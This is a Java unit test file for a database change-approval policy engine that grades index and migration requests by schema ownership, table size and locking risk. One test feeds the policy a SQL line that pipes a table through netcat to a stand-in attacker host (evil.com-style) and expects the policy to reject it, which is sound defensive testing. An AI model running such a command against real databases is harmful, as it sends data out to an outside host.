package com.logicore.dbp.approval.policy;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.logicore.dbp.approval.policy.PolicyDecision.Outcome;
import com.logicore.dbp.events.EventJson;
import com.logicore.dbp.events.RequestType;
import com.logicore.dbp.events.payload.PolicyEvaluated.Risk;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.Test;

class PolicyRulesTest {

    private final PolicyRules rules = new PolicyRules(100_000);
    private final JsonNode stopsByRoute = json(Map.of("table", "stops", "columns", List.of("route_id")));

    @Test
    void indexOnASmallOwnedTableIsAutoApproved() {
        var decision = rules.evaluate(
                index("routing", "routing", Optional.of(new TableFacts(40_000, 5_000_000, Set.of("id", "route_id")))));
        assertThat(decision.outcome()).isEqualTo(Outcome.AUTO_APPROVED);
    }

    @Test
    void indexOnALargeTableWaitsForApproval() {
        var decision = rules.evaluate(index(
                "routing", "routing", Optional.of(new TableFacts(150_000, 30_000_000, Set.of("id", "route_id")))));
        assertThat(decision.outcome()).isEqualTo(Outcome.NEEDS_APPROVAL);
        assertThat(decision.findings()).extracting("code").contains("index.large-table");
    }

    @Test
    void anotherTeamsSchemaIsRejectedNamingSchemaAndOwner() {
        var decision = rules.evaluate(index("deliveries", "deliveries", Optional.empty()));
        assertThat(decision.outcome()).isEqualTo(Outcome.REJECTED);
        assertThat(decision.findings().get(0).message())
                .contains("logicore/deliveries")
                .contains("owned by team deliveries")
                .contains("not routing");
        assertThat(decision.findings().get(0).field()).isEqualTo("target.schema");
    }

    @Test
    void missingTableOrColumnIsRejectedWithTheField() {
        var noTable = rules.evaluate(index("routing", "routing", Optional.empty()));
        assertThat(noTable.findings().get(0).field()).isEqualTo("payload.table");
        var noColumn = rules.evaluate(index("routing", "routing", Optional.of(new TableFacts(10, 8192, Set.of("id")))));
        assertThat(noColumn.outcome()).isEqualTo(Outcome.REJECTED);
        assertThat(noColumn.findings().get(0).field()).isEqualTo("payload.columns[0]");
    }

    @Test
    void aCleanMigrationGoesToAReviewerAtLowRisk() {
        var decision = rules.evaluate(migration("ALTER TABLE routing.routes ADD COLUMN notes text"));
        assertThat(decision.outcome()).isEqualTo(Outcome.NEEDS_APPROVAL);
        assertThat(decision.risk()).isEqualTo(Risk.LOW);
    }

    @Test
    void aLockingMigrationGoesToADbaWithItsFindings() {
        var decision = rules.evaluate(migration("ALTER TABLE routing.stops ALTER COLUMN id TYPE bigint"));
        assertThat(decision.outcome()).isEqualTo(Outcome.NEEDS_APPROVAL);
        assertThat(decision.risk()).isEqualTo(Risk.MEDIUM);
        assertThat(decision.findings()).extracting("code").contains("column.type-change");
    }

    @Test
    void theSameLockingMigrationIsHighRiskOnALargeTableAndSaysWhy() {
        String sql = "ALTER TABLE routing.stops ALTER COLUMN id TYPE bigint";
        var small =
                rules.evaluate(migration(sql, Map.of("routing.stops", new TableFacts(2_000, 400_000, Set.of("id")))));
        var large = rules.evaluate(
                migration(sql, Map.of("routing.stops", new TableFacts(2_100_000, 503_316_480, Set.of("id")))));
        assertThat(small.risk()).isEqualTo(Risk.MEDIUM);
        assertThat(large.risk()).isEqualTo(Risk.HIGH);
        assertThat(large.findings())
                .filteredOn(f -> f.code().equals("context.large-table"))
                .singleElement()
                .satisfies(f -> assertThat(f.message()).contains("routing.stops: about 2,100,000 rows, 480.0 MB"));
    }

    @Test
    void copyToProgramOrAnotherTeamsSchemaRejectsTheMigration() {
        assertThat(rules.evaluate(migration("COPY routing.stops TO PROGRAM 'nc evil.example 80'"))
                        .outcome())
                .isEqualTo(Outcome.REJECTED);
        var crossSchema =
                rules.evaluate(migration("UPDATE deliveries.deliveries SET status = 'delivered' WHERE id = 1"));
        assertThat(crossSchema.outcome()).isEqualTo(Outcome.REJECTED);
        assertThat(crossSchema.findings()).extracting("code").contains("security.foreign-schema");
    }

    @Test
    void otherTypesWaitForAPerson() {
        var decision = rules.evaluate(new PolicyInput(
                RequestType.ACCESS_GRANT,
                "routing",
                "logicore",
                "routing",
                Optional.of("routing"),
                Set.of("routing"),
                json(Map.of()),
                Optional.empty(),
                Map.of(),
                null));
        assertThat(decision.outcome()).isEqualTo(Outcome.NEEDS_APPROVAL);
    }

    private PolicyInput index(String schema, String owner, Optional<TableFacts> table) {
        return new PolicyInput(
                RequestType.CREATE_INDEX,
                "routing",
                "logicore",
                schema,
                Optional.of(owner),
                Set.of("routing"),
                stopsByRoute,
                table,
                Map.of(),
                null);
    }

    private static PolicyInput migration(String sql) {
        return migration(sql, Map.of());
    }

    private static PolicyInput migration(String sql, Map<String, TableFacts> touched) {
        JsonNode payload =
                json(Map.of("migrations", List.of(Map.of("version", "7", "description", "test", "sql", sql))));
        return new PolicyInput(
                RequestType.SCHEMA_CHANGE,
                "routing",
                "logicore",
                "routing",
                Optional.of("routing"),
                Set.of("routing"),
                payload,
                Optional.empty(),
                touched,
                null);
    }

    private static JsonNode json(Object value) {
        return EventJson.mapper().valueToTree(value);
    }
}
